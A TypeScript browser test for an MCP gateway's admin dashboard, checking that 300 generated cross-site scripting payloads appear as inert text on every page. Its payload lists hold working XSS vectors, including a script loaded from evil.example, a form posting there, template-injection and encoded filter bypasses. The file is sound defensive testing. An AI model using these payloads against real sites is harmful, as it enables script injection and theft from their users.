import t from 'tap'
import { testGateway } from '../support/gateway.ts'
import { changingServer } from '../support/mcp/admin-server.ts'
import { openChromium, skipWithoutChromium as skip } from '../support/oidc/chromium.ts'

t.setTimeout(240_000)

// Each says its number if it runs.
const RUN = 'window.executed=(window.executed||0)+1'
const ELEMENTS = [
  'img',
  'svg',
  'body',
  'input',
  'video',
  'details',
  'iframe',
  'object',
  'math',
  'style',
  'link',
  'base',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover']
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</pre>',
  '</style>',
  '-->',
  '`',
]
const WHOLE = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<form action=https://evil.example><button>x`,
  '{{constructor.constructor("window.executed=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes
  '${window.executed=1}',
  '&lt;script&gt;window.executed=1&lt;/script&gt;',
  '\u2028<img src=x onerror=window.executed=1>',
  '%3Cscript%3Ewindow.executed=1%3C/script%3E',
  '<img src=x onerror&#61;window.executed=1>',
  '<svg><animate onbegin=window.executed=1 attributeName=x dur=1s>',
  '<template shadowrootmode=open><img src=x onerror=window.executed=1></template>',
]

/** Payloads, each another one: elements and their events behind what ends the place that they are written into. */
const PAYLOADS: readonly string[] = [
  ...WHOLE.flatMap((one) => BREAKS.slice(0, 4).map((before) => before + one)),
  ...ELEMENTS.flatMap((element) =>
    EVENTS.flatMap((event, at) =>
      BREAKS.filter((_, n) => n % 3 === at % 3).map(
        (before) => `${before}<${element} src=x autofocus open ${event}=${RUN}>`,
      ),
    ),
  ),
].slice(0, 300)

/** The names of the scripts of a page, without their digests. */
const SCRIPTS = "[...document.scripts].map(({ src }) => new URL(src || 'inline:/').pathname.split('-')[0])"
const OF_ANY = { scripts: ['/proxy/assets/dashboard'], charts: 0 }
const OF_ACTIVITY = { scripts: [...OF_ANY.scripts, '/proxy/assets/activity'], charts: 1 }

await t.test(
  'threat 21 300 texts of strangers stand on every page as they are, and not one of them runs',
  { skip },
  async (t) => {
    t.equal(new Set(PAYLOADS).size, 300)
    const gateway = await testGateway(t, { settings: { MCP_PROXY_ALLOW_PRIVATE_UPSTREAMS: 'true' } })
    const bot = await gateway.enroll('bot', [])
    const [names, tools] = [
      PAYLOADS.filter((_, at) => at % 3 === 0),
      PAYLOADS.filter((_, at) => at % 30 === 1),
    ]
    for (const [at, display_name] of names.entries())
      await gateway.admin('POST', '/v1/admin/users', { user_name: `u${at}`, display_name, capabilities: [] })
    // The model of a refused call, the agent of its browser, the id that it gives itself.
    for (const [at, model] of PAYLOADS.entries()) {
      const ascii = model.replaceAll(/[^\x20-\x7e]/g, '')
      const headers =
        at % 10 === 0 ? { 'user-agent': ascii, 'x-client-request-id': ascii, traceparent: ascii } : {}
      await gateway.call(bot, 'POST', '/v1/chat/completions', { body: { model, messages: [] }, headers })
    }
    const properties = { path: { type: 'string', description: tools[0] ?? '' } }
    const server = await changingServer(
      t,
      ...tools.map((description, at) => ({
        name: `tool-${at}`,
        description,
        inputSchema: { type: 'object' as const, properties },
      })),
    )
    const { json } = await gateway.admin('POST', '/v1/admin/mcp-resources', {
      name: 'files',
      endpoint_url: server.url,
    })
    await gateway.admin('POST', `/v1/admin/mcp-resources/${json.resource_id}/refresh`)
    server.list(
      tools.toReversed().map((description, at) => ({
        name: `tool-${at}`,
        description,
        inputSchema: { type: 'object', properties },
      })),
    )
    await gateway.admin('POST', `/v1/admin/mcp-resources/${json.resource_id}/refresh`)

    // Those whose names are shown in the grid, too.
    for (let at = 0; at < 50; at += 1)
      await gateway.admin('POST', '/v1/admin/mcp-resources/bindings', {
        ...{ agent_id: `acme::user::u${at}`, resource_id: json.resource_id },
      })

    const context = await (await openChromium(t, gateway))()
    const reports: string[] = []
    context.on('console', (message) => {
      if (/policy|trusted/i.test(message.text())) reports.push(message.text())
    })
    context.on('dialog', (dialog) => void dialog.dismiss().then(() => reports.push(dialog.message())))
    context.on('request', (request) => {
      if (!request.url().startsWith(gateway.url) && !request.url().startsWith('data:,'))
        reports.push(request.url())
    })
    const page = await context.newPage()
    await page.goto(`${gateway.url}/proxy`)
    await page.getByLabel('Operator secret').fill('correct-horse-battery')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.waitForURL(`${gateway.url}/proxy`)

    let shown = ''
    const visit = async (path: string): Promise<void> => {
      await page.goto(gateway.url + path)
      t.equal(await page.evaluate('window.executed ?? 0'), 0, path)
      const ours = path.startsWith('/proxy/activity?') || path === '/proxy/activity' ? OF_ACTIVITY : OF_ANY
      t.same(await page.evaluate(SCRIPTS), ours.scripts, `${path}: no script but ours`)
      t.equal(await page.evaluate("document.querySelectorAll('svg').length"), ours.charts, path)
      t.equal(
        await page.evaluate("document.querySelectorAll('img,iframe,object,video,base,math').length"),
        0,
        path,
      )
      shown += String(await page.evaluate('document.body.innerText'))
    }
    for (const path of [
      '/proxy',
      '/proxy/users',
      '/proxy/tools',
      '/proxy/capabilities',
      '/proxy/settings',
      '/proxy/proof',
    ])
      await visit(path)
    await visit(`/proxy/tools/${json.resource_id}`)
    // All pages of Activity, and the why page of some.
    for (let path = '/proxy/activity?noise=yes'; path !== ''; ) {
      await visit(path)
      const next = page.locator('a[rel=next]')
      path = (await next.count()) > 0 ? String(await next.getAttribute('href')) : ''
    }
    for (const { request_id: id } of (await gateway.rows({ status: 'denied' })).filter(
      (_, at) => at % 20 === 0,
    ))
      await visit(`/proxy/activity/${String(id)}`)
    for (const at of [0, 1, 2, 50])
      for (const page of ['', '/usage', '/candidate', '/erase'])
        await visit(`/proxy/users/acme::user::u${at}${page}`)
    for (const payload of PAYLOADS.slice(0, 20)) {
      const asked = encodeURIComponent(payload)
      await visit(`/proxy/agents?q=${asked}`)
      await visit(`/proxy/tools?q=${asked}`)
      await visit(`/proxy/users/acme::user::u0?set=${asked}`)
      await visit(`/proxy/activity?model=${asked}&notice=${asked}`)
    }
    t.same(reports, [], 'nothing was loaded from elsewhere, and nothing had to be stopped by the policy')
    for (const payload of PAYLOADS.slice(0, 8)) t.ok(shown.includes(payload), `is read as it is: ${payload}`)
  },
)
